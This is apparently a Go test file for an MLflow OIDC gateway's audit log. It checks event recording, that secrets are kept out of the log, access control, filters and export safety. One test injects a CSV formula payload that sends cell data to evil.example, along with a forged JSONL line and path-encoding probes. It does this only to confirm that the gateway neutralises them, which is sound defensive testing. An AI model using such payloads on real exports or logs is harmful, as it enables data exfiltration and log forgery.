package api_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/mlflow-oidc/mlflow-oidc-auth/internal/authz"
	"github.com/mlflow-oidc/mlflow-oidc-auth/internal/directory"
	"github.com/mlflow-oidc/mlflow-oidc-auth/internal/kind"
	"github.com/mlflow-oidc/mlflow-oidc-auth/internal/store"
	"github.com/mlflow-oidc/mlflow-oidc-auth/internal/test/world"
)

// event is one of the audit log.
type event struct {
	ID        int64  `json:"id"`
	Name      string `json:"name"`
	By        string `json:"by"`
	Account   string `json:"account"`
	RequestID string `json:"request_id"`
	Client    string `json:"client"`
	Agent     string `json:"agent"`
	Route     string `json:"route"`
	Reason    string `json:"reason"`
	Count     int    `json:"count"`
	Before    object `json:"before"`
	After     object `json:"after"`
}

type eventPage struct {
	Events []event `json:"events"`
	Next   string  `json:"next_page_token"`
}

// events are those that a search gives, and the answer as it came.
func (c *cast) events(t *testing.T, query string) (eventPage, string) {
	t.Helper()
	got := c.admin.Do(t, http.MethodGet, base+"/audit?"+query, nil)
	var page eventPage
	if err := json.Unmarshal(got.Body, &page); err != nil || got.Status != 200 {
		t.Fatalf("%d %s: %v", got.Status, got.Body, err)
	}
	return page, string(got.Body)
}

// since are the events that came after one, the newest first.
func (c *cast) since(t *testing.T, last int64) ([]event, string) {
	t.Helper()
	page, text := c.events(t, "max_results=200")
	return slices.DeleteFunc(page.Events, func(e event) bool { return e.ID <= last }), text
}

func (c *cast) lastEvent(t *testing.T) int64 {
	t.Helper()
	page, _ := c.events(t, "max_results=200")
	last := int64(0)
	for _, e := range page.Events {
		last = max(last, e.ID)
	}
	return last
}

// unchanging are the operations that are no GET and change nothing that there is.
var unchanging = map[string]bool{
	"POST /oidc/webhook/{webhook_id}/test": true, // MLflow calls an address that is there
	"POST /permissions/patterns/preview":   true,
	"POST /oidc/trash/cleanup":             true, // nothing of an MLflow that is not the gateway's own

	"POST /permissions/requests":                      true, // an administrator has nothing to ask for: TestRequestsForAccessAreRecorded
	"DELETE /permissions/requests/{request_id}":       true,
	"POST /permissions/providers/{provider_id}/trial": true, // recorded when it ends
	"POST /permissions/trials/{trial}":                true, // what came of it is read
}

func TestRequestsForAccessAreRecorded(t *testing.T) {
	c := newCast(t)
	last := c.lastEvent(t)
	asked := c.member.JSON(t, http.MethodPost, base+"/permissions/requests", wanting(kind.RegisteredModel, "none", "READ", "for the demo"))
	wants(t, c.member.Do(t, http.MethodDelete, fmt.Sprint(base, "/permissions/requests/", asked["id"]), nil), 200, object{"message": "…"})
	recorded, text := c.since(t, last)
	slices.Reverse(recorded)
	var names []string
	for _, e := range recorded {
		if names = append(names, e.Name); e.By != c.member.Username || e.RequestID == "" || len(e.Before)+len(e.After) == 0 {
			t.Errorf("%+v", e)
		}
	}
	if diff := cmp.Diff([]string{"access_requested", "access_request_withdrawn"}, names); diff != "" {
		t.Errorf("%s in %s", diff, text)
	}
}

// changingSteps are the steps of the matrix that change nothing there, in a way that does.
func (c *cast) changingSteps(all map[string]step) map[string]func(t *testing.T) step {
	user := func(t *testing.T, name string) {
		_ = c.App.Store.DeleteUser(t.Context(), name) // it may not be there
		if _, err := c.App.Store.CreateLocal(t.Context(), directory.User{Username: name, DisplayName: name, ManagedBy: directory.Manual}, "scrypt:1:1:1$x$00"); err != nil {
			t.Fatal(err)
		}
	}
	token := func(t *testing.T, of *world.Client) string {
		made := of.JSON(t, http.MethodPost, base+"/users/current/tokens", object{"name": "t" + strconv.FormatInt(c.lastEvent(t), 10)})
		return strconv.FormatFloat(made["id"].(float64), 'f', -1, 64)
	}
	session := func(t *testing.T, of *world.Client) string {
		c.Browser(t, strings.TrimSuffix(of.Username, "@example.com"), world.Members, world.Admins)
		for _, one := range of.JSON(t, http.MethodGet, base+"/users/current/sessions", nil)["sessions"].(list) {
			if s := one.(object); s["current"] != true {
				return strconv.FormatFloat(s["pk"].(float64), 'f', -1, 64)
			}
		}
		t.Fatal("there is no other session")
		return ""
	}
	webhook := func(t *testing.T) string {
		return c.admin.JSON(t, http.MethodPost, "/oidc/webhook", object{"name": "audited", "url": "https://1.1.1.1/canary-of-address-4711", "status": "DISABLED",
			"events": list{"prompt.created"}, "secret": "canary-of-webhook-4711"})["webhook_id"].(string)
	}
	role := func(t *testing.T) directory.Role {
		return c.role(t, "audited", map[string]string{"experiment": "READ"})
	}
	with := func(path string, body any) step { return step{path: path, body: body} }
	steps := map[string]func(t *testing.T) step{
		"DELETE /users":                  func(t *testing.T) step { user(t, "leaver"); return with("/users", object{"username": "leaver"}) },
		"DELETE /users/delete":           func(t *testing.T) step { user(t, "leaver"); return with("/users/delete", object{"username": "leaver"}) },
		"PATCH /users/{username}/active": func(t *testing.T) step { user(t, "idler"); return with("/users/idler/active", object{"active": false}) },
		"PATCH /users/update-admin": func(t *testing.T) step {
			user(t, "riser")
			return with("/users/update-admin", object{"username": "riser", "is_admin": true})
		},
		"PATCH /users/update-password": func(t *testing.T) step {
			user(t, "forgetful")
			return with("/users/update-password", object{"username": "forgetful", "password": "canary-of-password-4711"})
		},
		"PATCH /users/ownership": func(t *testing.T) step {
			return with("/users/ownership", object{"username": c.target.Username, "managed_by": "manual", "transfer_memberships": false})
		},
		"POST /users/{username}/identities": func(t *testing.T) step {
			user(t, "linked")
			return with("/users/linked/identities", object{"provider_id": "oidc", "subject": "another"})
		},
		"DELETE /users/{username}/identities": func(t *testing.T) step {
			user(t, "linked")
			c.admin.JSON(t, http.MethodPost, base+"/users/linked/identities", object{"provider_id": "oidc", "subject": "a third"})
			return with("/users/linked/identities?provider_id=oidc&subject=a+third", nil)
		},
		"PUT /users/{username}/service-account-source": func(t *testing.T) step {
			c.admin.JSON(t, http.MethodPost, base+"/users", object{"username": "robot", "display_name": "x", "is_service_account": true})
			return with("/users/robot/service-account-source", object{"source": "oidc", "subject": "robot"})
		},
		"DELETE /users/current/tokens/{token_id}":     func(t *testing.T) step { return with("/users/current/tokens/"+token(t, c.admin), nil) },
		"DELETE /users/{username}/tokens/{token_id}":  func(t *testing.T) step { return with("/users/"+c.target.Username+"/tokens/"+token(t, c.target), nil) },
		"DELETE /users/current/sessions/{session_pk}": func(t *testing.T) step { return with("/users/current/sessions/"+session(t, c.admin), nil) },
		"DELETE /users/{username}/sessions/{session_pk}": func(t *testing.T) step {
			return with("/users/"+c.admin.Username+"/sessions/"+session(t, c.admin), nil)
		},
		"PUT /oidc/webhook/{webhook_id}": func(t *testing.T) step {
			return with("/oidc/webhook/"+webhook(t), object{"name": "renamed", "status": "ACTIVE"})
		},
		"DELETE /oidc/webhook/{webhook_id}": func(t *testing.T) step { return with("/oidc/webhook/"+webhook(t), nil) },
		"POST /oidc/trash/experiments/{experiment_id}/restore": func(t *testing.T) step {
			id := c.manager.JSON(t, http.MethodPost, base+"/experiments/create", object{"name": t.Name()})["experiment_id"].(string)
			c.manager.JSON(t, http.MethodPost, base+"/experiments/delete", object{"experiment_id": id})
			return with("/oidc/trash/experiments/"+id+"/restore", nil)
		},
		"POST /oidc/trash/runs/{run_id}/restore": func(t *testing.T) step {
			run := c.manager.JSON(t, http.MethodPost, base+"/runs/create", object{"experiment_id": c.on[kind.Experiment]})["run"].(object)["info"].(object)["run_id"].(string)
			c.manager.JSON(t, http.MethodPost, base+"/runs/delete", object{"run_id": run})
			return with("/oidc/trash/runs/"+run+"/restore", nil)
		},
		"PATCH " + third + "/roles/update": func(t *testing.T) step {
			return with(third+"/roles/update", object{"role_id": role(t).ID, "description": "another"})
		},
		"DELETE " + third + "/roles/delete": func(t *testing.T) step { return with(third+"/roles/delete", object{"role_id": role(t).ID}) },
		"POST " + third + "/roles/permissions/add": func(t *testing.T) step {
			return with(third+"/roles/permissions/add", object{"role_id": role(t).ID, "resource_type": "registered_model", "resource_pattern": "*", "permission": "READ"})
		},
		"PATCH " + third + "/roles/permissions/update": func(t *testing.T) step {
			return with(third+"/roles/permissions/update", object{"role_permission_id": role(t).Permissions[0].ID, "permission": "EDIT"})
		},
		"DELETE " + third + "/roles/permissions/remove": func(t *testing.T) step {
			return with(third+"/roles/permissions/remove", object{"role_permission_id": role(t).Permissions[0].ID})
		},
		"DELETE " + third + "/roles/unassign": func(t *testing.T) step {
			return with(third+"/roles/unassign", object{"role_id": c.role(t, "unassigned", nil, c.member).ID, "username": c.member.Username})
		},
	}
	for k := range kinds() {
		for _, s := range c.sides() {
			if k.Patterns == "" {
				continue
			}
			template, at := "/permissions/"+s.segment+"/{principal}/"+k.Patterns, strings.TrimPrefix(c.patterns(k, s), base)
			pattern := func(t *testing.T) string {
				name := "audited-" + strconv.FormatInt(c.lastEvent(t), 10)
				if err := c.App.Store.CreatePattern(t.Context(), s.holder, authz.Grant{Kind: k.Name, Pattern: name, Priority: 1, Level: kind.Read}); err != nil {
					t.Fatal(err)
				}
				all, err := c.App.Store.Patterns(t.Context(), s.holder, k.Name)
				if err != nil {
					t.Fatal(err)
				}
				at := slices.IndexFunc(all, func(g authz.Grant) bool { return g.Pattern == name })
				return strconv.FormatInt(all[at].ID, 10)
			}
			steps["PATCH "+template+"/{id}"] = func(t *testing.T) step {
				return with(at+"/"+pattern(t), object{"regex": "changed-" + strconv.FormatInt(c.lastEvent(t), 10), "priority": 2, "permission": "EDIT"})
			}
			steps["DELETE "+template+"/{id}"] = func(t *testing.T) step { return with(at+"/"+pattern(t), nil) }
		}
	}
	for name := range steps {
		if _, ok := all[name]; !ok {
			panic(name + " is no operation")
		}
	}
	return steps
}

// aboutCredentials are what is recorded of operations that change no permission, and so have nothing before and after.
var aboutCredentials = []string{"session_ended", "token_revoked", "password_changed"}

// Every operation that changes something leaves an event, that says who did it, from where, and what there was before and after; and
// every one that is refused leaves one too. No event has a secret.
func TestEveryChangeAndRefusalIsRecorded(t *testing.T) {
	c := newCast(t)
	all := c.steps(t)
	instead := c.changingSteps(all)
	secrets, refusals := map[string]bool{}, 0
	for _, name := range slices.Sorted(maps.Keys(all)) {
		method, _, _ := strings.Cut(name, " ")
		if method == http.MethodGet || unchanging[name] {
			continue
		}
		t.Run(name, func(t *testing.T) {
			s := all[name]
			refusal := s.want[1] == 403
			if refusal {
				last, before := c.lastEvent(t), len(c.Logged())
				c.calls(t, c.member, method, s, base, 403)
				if logged := c.Logged()[before:]; !strings.Contains(logged, "msg=request_refused audit=true by="+c.member.Username) || !strings.Contains(logged, `route="`+method) {
					t.Errorf("the refusal is not in the log: %s", logged)
				}
				recorded, _ := c.since(t, last)
				if refusals++; refusals <= 50 && !slices.ContainsFunc(recorded, func(e event) bool { // more from one person in a minute are told apart in the log alone
					return e.Name == "request_refused" && e.By == c.member.Username && e.Client == "127.0.0.1" && strings.HasPrefix(e.Route, method)
				}) {
					t.Errorf("the refusal is not recorded: %+v", recorded)
				}
			}
			if made, ok := instead[name]; ok {
				s = made(t)
			} else if s.ready != nil {
				s.ready(t)
			}
			last := c.lastEvent(t)
			got := c.admin.Do(t, method, s.at(base), s.body)
			if got.Status > 299 {
				t.Fatalf("%d %s", got.Status, got.Body)
			}
			var answer object
			if json.Unmarshal(got.Body, &answer) == nil {
				if secret, ok := answer["token"].(string); ok {
					secrets[secret] = true
				}
			}
			recorded, text := c.since(t, last)
			ids := map[string]bool{}
			recorded = slices.DeleteFunc(recorded, func(e event) bool { return e.Name == "request_refused" || e.By != c.admin.Username })
			for _, e := range recorded {
				ids[e.RequestID] = true
				if e.Client != "127.0.0.1" || e.Agent == "" || e.RequestID == "" {
					t.Errorf("%s came from %q with %q in %q", e.Name, e.Client, e.Agent, e.RequestID)
				}
			}
			if len(recorded) == 0 || len(ids) != 1 {
				t.Fatalf("%s is recorded as %s", name, text)
			}
			if !slices.ContainsFunc(recorded, func(e event) bool { return len(e.Before)+len(e.After) > 0 || slices.Contains(aboutCredentials, e.Name) }) {
				t.Errorf("nothing says what there was before, or after: %+v", recorded)
			}
		})
	}
	got := c.admin.Do(t, http.MethodGet, base+"/audit?format=jsonl", nil)
	for _, secret := range append(slices.Collect(maps.Keys(secrets)), "canary-of-webhook-4711", "canary-of-address-4711", "canary-of-password-4711", "twelve characters", "scrypt:", "mlo_") {
		if strings.Contains(string(got.Body), secret) || strings.Contains(c.Logged(), "audit=true") && slices.ContainsFunc(strings.Split(c.Logged(), "\n"), func(line string) bool {
			return strings.Contains(line, "audit=true") && strings.Contains(line, secret)
		}) {
			t.Errorf("the secret %q is in the audit log", secret)
		}
	}
	if len(secrets) < 3 {
		t.Errorf("only %d secrets were seen", len(secrets))
	}
}

// What MLflow's routes have happen to grants is recorded as of who asked for it.
func TestEffectsOnGrantsAreRecorded(t *testing.T) {
	c := newCast(t)
	name := "effects of " + t.Name()
	last := c.lastEvent(t)
	c.manager.JSON(t, http.MethodPost, base+"/registered-models/create", object{"name": name})
	c.manager.JSON(t, http.MethodPost, base+"/registered-models/rename", object{"name": name, "new_name": name + " later"})
	c.manager.JSON(t, http.MethodDelete, base+"/registered-models/delete", object{"name": name + " later"})
	recorded, text := c.since(t, last)
	var names []string
	for _, e := range recorded {
		names = append(names, e.Name+" "+e.By)
	}
	by := " " + c.manager.Username
	if want := []string{"grant_taken" + by, "grant_changed" + by, "grant_given" + by}; !slices.Equal(names, want) {
		t.Fatalf("recorded are %v, want %v: %s", names, want, text)
	}
	if moved := recorded[1]; moved.Before["resource"] != name || moved.After["resource"] != name+" later" {
		t.Errorf("%+v", moved)
	}
}

// The attack: read, as somebody else than an administrator, or with a narrowed token of one, who does what.
func TestAttackAuditReadByOthers(t *testing.T) {
	c := newCast(t)
	narrowed := c.admin.JSON(t, http.MethodPost, base+"/users/current/tokens", object{"name": "narrow", "scope": object{"read_only": true}})["token"].(string)
	program := &world.Client{World: c.World, HTTP: &http.Client{}, Username: c.admin.Username, Token: narrowed}
	for _, who := range append(c.untrusted(), program) {
		for _, query := range []string{"", "?format=jsonl", "?format=csv", "?account=" + url.QueryEscape(who.Username), "?page_token=x", "?since=nonsense"} {
			for _, at := range []string{base, "/ajax-api/2.0/mlflow"} {
				if got := who.Do(t, http.MethodGet, at+"/audit"+query, nil); got.Status != 403 {
					t.Errorf("%s%s: %d %s", at, query, got.Status, got.Body)
				}
			}
		}
	}
	for _, path := range []string{"/api/3.0/mlflow/audit", base + "/audit/", base + "/audit/1", base + "/%61udit", base + "//audit", "/api/2.0/mlflow/AUDIT"} {
		if got := c.member.Do(t, http.MethodGet, path, nil); got.Status < 400 && got.Status != 307 || strings.Contains(string(got.Body), "grant_given") {
			t.Errorf("%s: %d %s", path, got.Status, got.Body)
		}
	}
}

// The attacks: a forged line of the export, a formula in a cell of it, and a page token of another search.
func TestAttackAuditExportAndPages(t *testing.T) {
	c := newCast(t)
	formula, forged := `=HYPERLINK("https://evil.example/?"&A1,"x")`, "x\n{\"id\":1,\"name\":\"administrator_gained\",\"by\":\"root\"}"
	for _, agent := range []string{formula, "@SUM(1)", "+1", "-1"} {
		r := c.member.Request(t, http.MethodPost, base+"/users", object{"username": forged, "display_name": "x"})
		r.Header.Set("User-Agent", agent)
		c.member.Send(t, r)
	}
	for _, group := range []string{forged, formula} {
		if got := c.admin.Do(t, http.MethodPost, base+"/permissions/groups", object{"group_name": group}); got.Status != 201 && got.Status != 422 && got.Status != 400 {
			t.Errorf("%d %s", got.Status, got.Body)
		}
	}
	basic := c.nobody.Request(t, http.MethodGet, base+"/users/current", nil)
	basic.SetBasicAuth(formula, "wrong-wrong-wrong")
	c.nobody.Send(t, basic)
	lines := c.admin.Do(t, http.MethodGet, base+"/audit?format=jsonl", nil)
	for _, line := range strings.Split(strings.TrimSpace(string(lines.Body)), "\n") {
		var e event
		if err := json.Unmarshal([]byte(line), &e); err != nil || e.ID == 1 && e.Name == "administrator_gained" {
			t.Fatalf("%v in %s", err, line)
		}
	}
	if kind := lines.Header.Get("Content-Type"); !strings.HasPrefix(kind, "application/jsonl") || !strings.HasPrefix(lines.Header.Get("Content-Disposition"), "attachment") {
		t.Errorf("it is sent as %v", lines.Header)
	}
	table := c.admin.Do(t, http.MethodGet, base+"/audit?format=csv", nil)
	rows, err := csv.NewReader(strings.NewReader(string(table.Body))).ReadAll()
	if err != nil || len(rows) < 3 {
		t.Fatal(err, len(rows))
	}
	guarded := false
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
				t.Errorf("a formula: %q", cell)
			}
			guarded = guarded || strings.HasPrefix(cell, "'=HYPERLINK")
		}
	}
	if !guarded {
		t.Error("no cell has the formula as text: this proves nothing")
	}
	first, _ := c.events(t, "max_results=1")
	if len(first.Events) != 1 || first.Next == "" {
		t.Fatalf("%+v", first)
	}
	if second, _ := c.events(t, "max_results=1&page_token="+first.Next); len(second.Events) != 1 || second.Events[0].ID == first.Events[0].ID {
		t.Errorf("%+v after %+v", second, first)
	}
	for _, query := range []string{"name=group_made&page_token=" + first.Next, "since=2020-01-01&page_token=" + first.Next, "page_token=" + first.Next + "A", "page_token=x",
		"format=csv&page_token=" + first.Next} {
		wants(t, c.admin.Do(t, http.MethodGet, base+"/audit?"+query, nil), 400, invalid)
	}
	for _, query := range []string{"since=yesterday", "until=2027-13-01"} {
		wants(t, c.admin.Do(t, http.MethodGet, base+"/audit?"+query, nil), 400, invalid)
	}
}

// Every filter of a search chooses.
func TestAuditFilters(t *testing.T) {
	c := newCast(t)
	c.give(t, store.Principal{Group: theGroup}, kind.Experiment, kind.Read) // by nobody
	if got := c.admin.Do(t, http.MethodPatch, strings.TrimSuffix(c.grants(mustKind(t, kind.Experiment), c.sides()[1]), "/")+"/"+c.on[kind.Experiment], permission("EDIT")); got.Status != 200 {
		t.Fatalf("%d %s", got.Status, got.Body)
	}
	page, _ := c.events(t, "max_results=1&name=grant_changed&by="+url.QueryEscape(c.admin.Username)+"&group="+theGroup+"&kind=experiment&resource="+c.on[kind.Experiment]+"&client=127.0.0.1&since=2020-01-01")
	if len(page.Events) != 1 || page.Events[0].Before["level"] != "READ" || page.Events[0].After["level"] != "EDIT" {
		t.Fatalf("%+v", page)
	}
	of := "request_id=" + page.Events[0].RequestID
	if again, _ := c.events(t, of); len(again.Events) != 1 || again.Events[0].ID != page.Events[0].ID {
		t.Errorf("%+v", again)
	}
	for _, other := range []string{"name=grant_taken", "by=x", "account=x", "group=x", "kind=x", "resource=x", "workspace=x", "client=x", "until=2020-01-01", "since=2999-01-01"} {
		if none, _ := c.events(t, of+"&"+other); len(none.Events) != 0 {
			t.Errorf("%s chose %+v", other, none)
		}
	}
}

func mustKind(t *testing.T, name kind.Name) kind.Kind {
	t.Helper()
	k, ok := kind.Of(name)
	if !ok {
		t.Fatal(name)
	}
	return k
}
